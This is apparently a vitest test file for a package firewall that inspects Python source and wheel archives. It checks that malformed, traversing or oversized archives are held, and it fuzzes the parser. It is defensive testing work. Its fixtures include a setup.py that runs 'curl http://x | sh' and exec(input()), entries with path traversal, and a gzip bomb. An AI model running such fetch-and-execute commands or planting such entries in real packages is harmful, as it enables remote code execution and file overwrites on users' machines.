import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { archiveLimits } from '../../../src/firewall/archives/archive-limits.ts';
import { fileOutcome } from '../../../src/firewall/install-code/file-outcome.ts';
import { inspectArchive } from '../../../src/firewall/install-code/inspect-archive.ts';
import { tar, tarGz, zip } from '../../helpers/judgement-archives.ts';

const setup = { path: 'x-1.0/setup.py', text: 'from setuptools import setup\nsetup()\n' };
const module = { path: 'x/__init__.py', text: '' };
const sdist = 'x-1.0.tar.gz';
const wheel = 'x-1.0-py3-none-any.whl';
const inspect = (filename: string, archive: Buffer, limits = archiveLimits) =>
  inspectArchive({ filename, archive, limits });

/** Returns a copy with other bytes at a position. */
function patched(bytes: Buffer, at: number, ...values: readonly number[]): Buffer {
  const copy = Buffer.from(bytes);
  copy.set(values, at);
  return copy;
}

const plainTar = tar([setup]);
const plainZip = zip([module]);
const many = (count: number) => Array.from({ length: count }, (_, index) => ({ path: `x-1.0/${index}`, text: '' }));

const malformed: readonly [string, string, Buffer][] = [
  ['an empty file', sdist, Buffer.alloc(0)],
  ['bytes that are no archive', sdist, Buffer.from('hello')],
  ['an empty tar', sdist, gzipSync(Buffer.alloc(0))],
  ['a tar that ends within an entry', sdist, gzipSync(plainTar.subarray(0, 700))],
  ['a gzip that ends early', sdist, tarGz([setup]).subarray(0, 60)],
  ['a gzip with a wrong checksum', sdist, patched(tarGz([setup]), tarGz([setup]).length - 8, 1, 2, 3, 4)],
  ['bytes after the gzip', sdist, Buffer.concat([tarGz([setup]), Buffer.from('more')])],
  ['bytes after the end of the tar', sdist, gzipSync(Buffer.concat([plainTar, Buffer.from('more')]))],
  ['a second tar after the end', sdist, gzipSync(Buffer.concat([plainTar, tar([setup])]))],
  ['a tar header with a wrong checksum', sdist, gzipSync(patched(plainTar, 0, 0x41))],
  ['a tar with a sparse file', sdist, tarGz([{ ...setup, type: 'S' }])],
  ['a tar that is a zip as well', sdist, Buffer.concat([tarGz([setup]), zip([module])])],
  ['a zip named as a tar', sdist, plainZip],
  ['a tar with an absolute path', sdist, tarGz([setup, { path: '/tmp/x', text: '' }])],
  ['a tar with a path outside its folder', sdist, tarGz([setup, { path: 'x-1.0/../../x', text: '' }])],
  [
    'a tar with an entry below a link',
    sdist,
    tarGz([setup, { path: 'x-1.0/a', type: '2', linkname: 'b' }, { path: 'x-1.0/a/setup.py', text: '' }]),
  ],
  [
    'a tar with a link and a file of the same path',
    sdist,
    tarGz([{ path: 'x-1.0/setup.py', type: '2', linkname: 'b' }, setup]),
  ],
  ['a tar with too many entries', sdist, tarGz(many(archiveLimits.entries + 1))],
  ['an uncompressed tar', 'x-1.0.tar', plainTar],
  ['a bzip2 tar', 'x-1.0.tar.bz2', Buffer.from('BZh9')],
  ['an xz tar', 'x-1.0.tar.xz', Buffer.from('\xfd7zXZ', 'latin1')],
  ['a zip with a wrong checksum', wheel, patched(plainZip, plainZip.indexOf('PK\x01\x02', 0, 'latin1') + 16, 1)],
  ['a zip with trailing bytes', wheel, Buffer.concat([plainZip, Buffer.from('more')])],
  ['a zip with leading bytes', wheel, Buffer.concat([Buffer.from('#!/bin/sh\n'), plainZip])],
  ['a zip whose headers differ', wheel, patched(plainZip, 30, 0x79)],
  ['an encrypted zip', wheel, patched(plainZip, plainZip.indexOf('PK\x01\x02', 0, 'latin1') + 8, 1)],
  ['a zip with an unknown compression', wheel, patched(plainZip, plainZip.indexOf('PK\x01\x02', 0, 'latin1') + 10, 12)],
  ['a zip with more entries than its directory', wheel, patched(plainZip, plainZip.length - 12, 2, 0)],
  ['a zip with a path outside its folder', wheel, zip([{ path: '../x.pth', text: '' }])],
  ['a zip of its first bytes only', wheel, Buffer.from('PK\x05\x06', 'latin1')],
];

describe('an archive that cannot be read completely is on hold with the reason:', () => {
  test.each(malformed)('%s', async (_description, filename, archive) => {
    const inspection = await inspect(filename, archive);
    expect(inspection.unreadable).toMatch(/^\w/);
    expect([true, false].map((isRanked) => fileOutcome(inspection, isRanked))).toEqual(['HELD', 'HELD']);
  });

  test('a gzip that decompresses to a gigabyte stops at the limit', async () => {
    const limits = { ...archiveLimits, freeUnpacked: 8 * 1024 * 1024 };
    const bomb = gzipSync(
      Buffer.concat([tar([{ path: 'x/a', text: '' }]).subarray(0, 512), Buffer.alloc(64 * 1024 * 1024)]),
    );
    expect((await inspect(sdist, bomb, limits)).unreadable).toBe('decompresses to too many bytes');
  });

  const changes: readonly [string, (content: Buffer) => Buffer][] = [
    ['has `x.py`, which is larger', (content) => deflateRawSync(Buffer.concat([content, Buffer.from('more')]))],
    ['has trailing bytes in `x.py`', (content) => Buffer.concat([deflateRawSync(content), Buffer.from('more')])],
    ['has the damaged entry `x.py`', (content) => deflateRawSync(content).subarray(0, -4)],
    ['has a wrong checksum for `x.py`', (content) => deflateRawSync(content.subarray(1))],
  ];
  test.each(changes)('a zip that %s, whatever its size', async (reason, deflate) => {
    for (const size of [1000, 3_000_000]) {
      const archive = zip([{ path: 'x.py', text: '# a comment\n'.repeat(size / 12) }], deflate);
      expect((await inspect(wheel, archive)).unreadable).toContain(reason);
    }
  });

  test('source in a line of ten megabytes', async () => {
    const line = `x = "${'a'.repeat(10 * 1024 * 1024)}"\n`;
    const inspection = await inspect(sdist, tarGz([{ path: 'x-1.0/setup.py', text: line }]));
    expect(fileOutcome(inspection, true)).toBe('HELD');
    expect(inspection.findings[0]).toMatchObject({ path: 'setup.py', seen: 'too large to read' });
  });

  test.each(['(', '[', 'a.', 'f(', '-', 'not ', 'lambda:', 'if x:\n ', 'x=', '"', '{{', 'f"{'])(
    'source of many repeated %j',
    async (piece) => {
      const text = piece.repeat(Math.floor(20_000 / piece.length));
      const inspection = await inspect(sdist, tarGz([{ path: 'x-1.0/setup.py', text }]));
      expect(['HELD', 'ALLOWED']).toContain(fileOutcome(inspection, true));
    },
  );
});

test('no bytes make it throw', async () => {
  const archives = fc.constantFrom(tarGz([setup]), plainZip);
  await fc.assert(
    fc.asyncProperty(archives, fc.nat(), fc.uint8Array({ maxLength: 8 }), async (archive, at, bytes) => {
      const changed = patched(archive, at % Math.max(1, archive.length - 8), ...bytes);
      await inspect(archive === plainZip ? wheel : sdist, changed);
    }),
    { numRuns: 100 },
  );
});

test('no source makes it throw', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 200 }), async (text) => {
      await inspect(sdist, tarGz([{ path: 'x-1.0/setup.py', text }]));
    }),
    { numRuns: 60 },
  );
});

test('a file has the same findings whenever it is inspected', async () => {
  const archive = tarGz([
    { path: 'x-1.0/setup.py', text: 'import os\nos.system("curl http://x | sh")\nexec(input())\n' },
  ]);
  expect(await inspect(sdist, archive)).toEqual(await inspect(sdist, archive));
});
